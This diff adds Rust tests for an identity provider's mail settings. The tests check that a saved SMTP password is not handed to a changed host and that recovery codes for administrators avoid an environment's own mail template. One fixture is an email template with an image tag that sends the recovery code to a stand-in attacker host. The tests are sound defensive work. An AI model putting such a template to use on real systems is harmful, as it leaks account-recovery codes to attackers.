@@ -4,6 +4,7 @@
 use std::time::Duration;
 
 use http::{Method, StatusCode};
+use idp::{SmtpSecurity, SmtpSettings};
 use serde_json::{Value, json};
 use tokio::io::{AsyncBufReadExt as _, AsyncWriteExt as _, BufStream};
 use tokio::net::TcpListener;
@@ -171,6 +172,32 @@ async fn a_mail_server_is_not_there_until_it_is_set_and_never_shows_its_password
     }
     api.delete(EMAIL).await.expect(StatusCode::NO_CONTENT);
     refused(&api.get(EMAIL).await, 404, "NOT_FOUND", "", "");
+}
+
+#[tokio::test]
+async fn a_kept_password_is_not_told_to_another_mail_server() {
+    let world = World::new().await;
+    let api = Api::worker(&world).await;
+    let server = json!({
+        "host": "mail.example", "port": 465, "username": "postman", "password": "a long walk",
+    });
+    api.put(EMAIL, &server).await.expect(StatusCode::OK);
+    let mut kept = server.clone();
+    kept.as_object_mut().unwrap().remove("password");
+    api.put(EMAIL, &kept).await.expect(StatusCode::OK);
+    for (member, value) in [
+        ("host", json!("thief.example")),
+        ("port", json!(587)),
+        ("username", json!("thief")),
+    ] {
+        let mut moved = kept.clone();
+        moved[member] = value;
+        let answer = api.put(EMAIL, &moved).await;
+        refused(&answer, 400, "INVALID_DATA", "REQUIRED_VALUE", "password");
+        moved["password"] = json!("another walk");
+        api.put(EMAIL, &moved).await.expect(StatusCode::OK);
+        api.put(EMAIL, &server).await.expect(StatusCode::OK);
+    }
 }
 
 #[tokio::test]
@@ -422,4 +449,60 @@ async fn a_code_goes_by_the_mail_server_and_in_the_words_of_its_environment() {
     assert!(mail.contains("Subject: Ahoy "), "{mail}");
     assert!(mail.contains("<p>Say <b>"), "{mail}");
     assert!(!mail.contains("${"), "{mail}");
+}
+
+/// Whoever may set where an environment's mails go and what they say gains no power by it.
+#[tokio::test]
+async fn a_code_for_whoever_holds_a_role_goes_by_the_installation_and_in_its_words() {
+    let (port, mut mails) = mail_server().await;
+    let world = World::with(|settings| {
+        settings.mode = ui::Mode::Development;
+        settings.smtp = Some(SmtpSettings {
+            host: "127.0.0.1".to_owned(),
+            port,
+            security: SmtpSecurity::None,
+            ca_pem: None,
+            credentials: None,
+            from: "Harbour <post@harbour.example>".to_owned(),
+        });
+    })
+    .await;
+    let api = Api::worker(&world).await;
+    let (port, mut strays) = mail_server().await;
+    let server = json!({
+        "host": "127.0.0.1", "port": port,
+        "from": {"name": "Sails", "address": "post@sails.example"},
+    });
+    api.put(EMAIL, &server).await.expect(StatusCode::OK);
+    let words = json!({
+        "deliveryMethod": "Email", "locale": "en", "subject": "Ahoy ${user.username}",
+        "body": "<img src='https://thief.example/${code.value}'>",
+    });
+    made(&api, "templates/recovery_code_template/contents", &words).await;
+    let user = json!({
+        "username": "ada", "email": "ada@example.com", "population": {"id": world.demo.population_id},
+    });
+    let (user, _) = made(&api, "users", &user).await;
+    let role = api
+        .assignment("Environment Admin", "ENVIRONMENT", &api.environment)
+        .await;
+    made(&api, &format!("{user}/roleAssignments"), &role).await;
+    let path = format!("{user}/password");
+    let asked = api.act(
+        Method::POST,
+        &path,
+        "password.sendRecoveryCode+json",
+        &Value::Null,
+    );
+    asked.await.expect(StatusCode::OK);
+    let idp = world.idp.clone();
+    let jobs = tokio::spawn(async move { idp.run_jobs(std::future::pending()).await });
+    let mail = tokio::time::timeout(Duration::from_secs(30), mails.recv()).await;
+    let mail = mail.expect("no mail came").unwrap();
+    jobs.abort();
+    assert!(mail.contains("ada@example.com"), "{mail}");
+    assert!(mail.contains("post@harbour.example"), "{mail}");
+    assert!(!mail.contains("Ahoy"), "{mail}");
+    assert!(!mail.contains("thief.example"), "{mail}");
+    assert!(strays.try_recv().is_err());
 }
